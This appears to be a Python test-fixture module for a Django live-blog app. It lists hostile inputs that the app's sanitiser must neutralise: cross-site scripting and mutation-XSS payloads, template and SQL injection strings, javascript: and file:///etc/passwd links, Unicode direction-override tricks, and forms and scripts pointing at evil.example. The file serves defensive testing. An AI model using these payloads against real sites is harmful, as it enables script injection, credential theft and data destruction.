"""Texts that attack whoever shows them, each with what must be left of it.

`Line`: for every plain field; `kept` is what a reader must see, to the character (white space
folded). `Body`: for rich text; `kept` are words that must be seen, `gone` must not stand in any
answer in any form, whoever parses it.
"""

from dataclasses import dataclass

from coverage.models import Entry, Tag
from tests.make import make_author, make_byline, make_image, make_page, make_picture_file, make_video


@dataclass(frozen=True)
class Line:
    name: str
    value: str
    kept: str = None

    @property
    def seen(self):
        return " ".join((self.value if self.kept is None else self.kept).split())


@dataclass(frozen=True)
class Body:
    name: str
    value: str
    kept: tuple = ()
    gone: tuple = ()


LINES = [
    Line("script", "<script>alert('line')</script>"),
    Line("script end", "</script><script>alert(1)</script>"),
    Line(
        "script end, spaced",
        "</ScRiPt\t><img src=q onerror=alert(1)>",
        "</ScRiPt ><img src=q onerror=alert(1)>",
    ),
    Line("picture", "<img src=q onerror=alert(1)>"),
    Line("drawing", "<svg/onload=alert(1)>"),
    Line("comment", "<!--<script>"),
    Line("comment end", "--><script>alert(1)</script>"),
    Line("cdata end", "]]><q>&"),
    Line("title end", "</title><svg onload=alert(1)>"),
    Line("textarea end", "</textarea><script>alert(1)</script>"),
    Line("noscript end", "</noscript><script>alert(1)</script>"),
    Line("style end", "</style><script>alert(1)</script>"),
    Line("quote", '" onfocus=alert(1) autofocus q="'),
    Line("single quote", "' onmouseover='alert(1)"),
    Line("unquoted", "q onclick=alert(1)"),
    Line("entities", "&q; &#0; &lt;b&gt; &amp;amp;"),
    Line("numbers", "&#60;script&#62;alert(1)&#x3c;/script>"),
    Line("json", '","headline":"q\\u003c/script\\'),
    Line("backslashes", "\\u003cscript\\u003e \\n \\"),
    Line("django", "{{ 6*7 }}{% debug %}{# q #}"),
    Line("other templates", "${6*7} #{6*7} <%= 6*7 %>"),
    Line("formats", "%s %(name)s {0} {name!r} %n"),
    Line("sql", "'); DROP TABLE coverage_entry; --"),
    Line("javascript address", "javascript:alert(1)"),
    Line("nul", "before\0after", "beforeafter"),
    Line("controls", "a\x01\x08\x0b\x7fb", "ab"),
    Line("noncharacters", "q\ufffe\uffff\ufdd0r", "qr"),
    Line("half a character", "q\ud800r", "qr"),
    Line("lines", "one\nid: 9\r\nevent: gone\r\rdata: {}", "one id: 9 event: gone data: {}"),
    Line("unusual lines", "a\u2028b\u2029c\x85d", "a b c d"),
    Line("override", "Reuters \u202eidem\u202c end", "Reuters idem end"),
    Line("isolate", "q \u2067r\u2069 s", "q r s"),
    Line("invisible", "Pa\u200bris\ufeff", "Paris"),
    Line("arabic", "عاجل: القمة تبدأ (بث)"),
    Line("emoji", "👩🏽\u200d🚀👨\u200d👩\u200d👧🏳️\u200d🌈🇫🇷"),
    Line("combining", "Z" + "\u0351\u036b" * 18),
    Line("astral", "𝔘𝔫𝔦 𠜎 🂡"),
    Line("long word", "Donaudampfschiff" * 2),
]
BODIES = [
    Body("script", "<p>Hello<script>alert('body')</script> world</p>", ("Hello", "world"), ("alert(",)),
    Body("script, other case", "<p>q</p><ScRiPt src=//evil.example/x></sCrIpT>", ("q",), ("evil.example",)),
    Body("handlers", "<p onclick=alert(1)>a<b onmouseover='alert(2)'>b</b><img src=q onerror=alert(3)>c</p>", ("c",), ("alert(",)),
    Body("drawing", "<svg><animate onbegin=alert(1) attributeName=x /></svg><p>t</p>", ("t",), ("alert(", "animate")),
    Body("mutation by mathml", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", (), ("<img src=1",)),
    Body("mutation by noscript", '<noscript><p title="</noscript><img src=q onerror=alert(1)>"></noscript><p>t</p>', (), ("<img src=q",)),
    Body("mutation by style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', (), ("<img src=1",)),
    Body("mutation by form", '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">', (), ("<img onerror",)),
    Body("javascript", "<a href='javascript:alert(1)'>q</a>", ("q",), ("javascript:",)),
    Body("javascript, disguised", "<p><a href='jav&#9;ascript:alert(1)'>q</a> <a href='\x01javascript:alert(2)'>r</a> <a href='JaVaScRiPt&colon;alert(3)'>s</a></p>", ("q", "r", "s"), ("script:",)),
    Body("other schemes", "<a href='vbscript:q'>a</a><a href='file:///etc/passwd'>b</a><a href='blob:q'>c</a><a href='data:text/html,<script>alert(1)</script>'>d</a>", ("a", "b", "c", "d"), ("vbscript:", "file:", "blob:", "data:text")),
    Body("no scheme", "<a href='//evil.example/q'>q</a><a href='\\\\evil.example'>r</a><a href='/admin/logout/'>s</a>", ("q", "r", "s"), ("evil.example", "/admin/logout")),
    Body("quote in an address", "<a href='https://example.org/\" onclick=\"alert(1)'>q</a>", ("q",), ('" onclick="',)),
    Body("line in an address", "<a href='https://example.org/a\nb'>q</a>", ("q",)),
    Body("opener", "<a href='https://example.org/' target=_blank rel=opener ping=//evil.example>q</a>", ("q",), ("opener", "evil.example")),
    Body("style", "<p style='position:fixed;background:url(//evil.example)'>q</p><style>@import '//evil.example';</style>", ("q",), ("position:fixed", "evil.example", "@import")),
    Body("names", "<p id='main' class='entry pinned' name=cookie>q</p><a id=document href='https://example.org/'>r</a>", ("q", "r"), ("entry pinned", "cookie", "id=document")),
    Body("our elements", "<live-page data-stream='/admin/'>q</live-page><p is='new-entries' data-part='lead'>r</p>", ("q", "r"), ("data-stream='/admin", "is=")),
    Body("htmx", "<p hx-get='/admin/logout/' data-hx-post='/admin/' hx-trigger=load x-init=q @click=q>t</p>", ("t",), ("hx-get", "data-hx", "x-init", "@click")),
    Body("frames", "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.example></object><embed src=//evil.example><p>t</p>", ("t",), ("evil.example", "srcdoc")),
    Body("head", "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'><link rel=stylesheet href=//evil.example><p>q</p>", ("q",), ("evil.example",)),
    Body("form", "<form action='//evil.example'><input name=password><button formaction=//evil.example>Log in</button></form><p>q</p>", ("q",), ("evil.example", "password")),
    Body("figures of nothing", "<figure data-image='999999999'></figure><figure data-image='1 or 1=1'></figure><figure data-image='-1'></figure><p>q</p>", ("q",), ("or 1=1",)),
    Body("left open", "<p>one<b>two<i>three</p><blockquote><ul><li>four", ("one", "four")),
    Body("closed too often", "</p></div></article></section></main></live-page></body></html><p>q", ("q",)),
    Body("comments", "<p>a<!-- source is J. --></p><!--[if IE]><script>alert(1)</script><![endif]--><!--> <img src=q onerror=alert(1)> -->", ("a",), ("source is J", "[if IE]")),
    Body("instructions", "<?php echo 'q' ?><!DOCTYPE q [<!ENTITY r 's'>]><![CDATA[<script>alert(1)</script>]]><p>t</p>", ("t",), ("<script>alert", "ENTITY r")),
    Body("pasted", "<p class=MsoNormal style='mso-q:1'><o:p>&nbsp;</o:p><span lang=EN-GB>Hello</span></p>", ("Hello",), ("Mso", "mso-", "o:p")),
    Body("links in links", "<a href='https://a.example/'>a <a href='https://b.example/'>b</a></a>", ("a", "b")),
    Body("pictures elsewhere", "<img src='https://evil.example/p.gif'><picture><source srcset=//evil.example></picture><video poster=//evil.example></video><p>q</p>", ("q",), ("evil.example",)),
    Body("templates", "<template><script>alert(1)</script></template><xmp><script>alert(2)</script></xmp><p>q</p>", ("q",), ("<script>alert",)),
    Body("plain text", "<p>q</p><plaintext><script>alert(1)</script>", ("q",), ("<script>alert",)),
    Body("nul in a name", "<p>q</p><scr\0ipt>alert(1)</scr\0ipt>", ("q",), ("<script>alert",)),
    Body("doubled names", "<p>q</p><scr<script>ipt>alert(1)</scr</script>ipt>", ("q",), ("<script>alert",)),
    Body("attributes twice", "<a href='https://example.org/' href='javascript:alert(1)'>q</a>", ("q",), ("javascript:",)),
    Body("entities", "<p>&lt;script&gt;alert(1)&lt;/script&gt; AT&amp;T &copy; &amp;lt;b&gt;</p>", ("<script>alert(1)</script>", "AT&T ©", "&lt;b>"), ("<script>alert",)),
    Body("cdata end", "<p>]]&gt;&lt;q&gt;</p>", ("]]><q>",)),
    Body("events", "<p>one</p>\n\nid: 99999\nevent: gone\ndata: {}\n\n<p>a\u2028data: q\u2029</p>", ("one", "id: 99999 event: gone data: {}")),
    Body("deep", "<blockquote><ul><li><b>" * 900 + "q", ("q",)),
    Body("unwanted characters", "<p>a\x01\ufffeb\u202ec\u2066d</p>", ("abcd",), ("\x01", "\ufffe", "\u202e")),
]  # fmt: skip
ALL = [*LINES, *BODIES]
# What may be in a body: anything else that a parser finds there came from the attack.
ELEMENTS = {
    "p": set(), "h4": set(), "ul": set(), "ol": set(), "li": set(), "blockquote": set(), "strong": set(), "em": set(),
    "sub": set(), "sup": set(), "br": set(), "a": {"href"},
}  # fmt: skip


def page_with_line(value):
    """A live page, its value in every plain field that readers see, and an entry with everything."""
    image = make_image(file=make_picture_file(16, 9), alt=value, credit=value, caption=value)
    video = make_video(title=value, caption=value, poster=image)
    page = make_page(
        title=value, standfirst=value, lead_video=video, lead_caption=value, event_name=value, event_place=value,
        related_url="https://example.org/", related_title=value,
    )  # fmt: skip
    byline = make_byline(make_author(value, role=value, photo=image), role=value, reporting_from=value)
    tag = Tag.objects.named(value)
    figures = f'<figure data-image="{image.pk}"></figure><figure data-video="{video.pk}"></figure>'
    entry = Entry.objects.draft(
        page=page, by=None, headline=value, kicker=value if len(value) <= 40 else "", body=f"<p>Text.</p>{figures}",
        is_key_event=True, bylines=[byline], tags=[tag] if tag else [],
    )  # fmt: skip
    entry.publish(by=None)
    entry.correct(by=None, note=value)
    page.tags.set([tag] if tag else [])
    page.pin(entry, by=None)
    page.close(by=None)
    return page


def page_with_body(value):
    """A live page, its value in every rich text that readers see."""
    image = make_image(file=make_picture_file(16, 9))
    page = make_page(summary=value)
    with_caption = f'<figure data-image="{image.pk}"><figcaption>{value}</figcaption></figure>'
    for body in (value, with_caption):
        entry = Entry.objects.draft(
            page=page, by=None, headline="", body=f"<p>Text.</p>{body}", is_key_event=True
        )
        entry.publish(by=None)
    page.pin(entry, by=None)
    return page
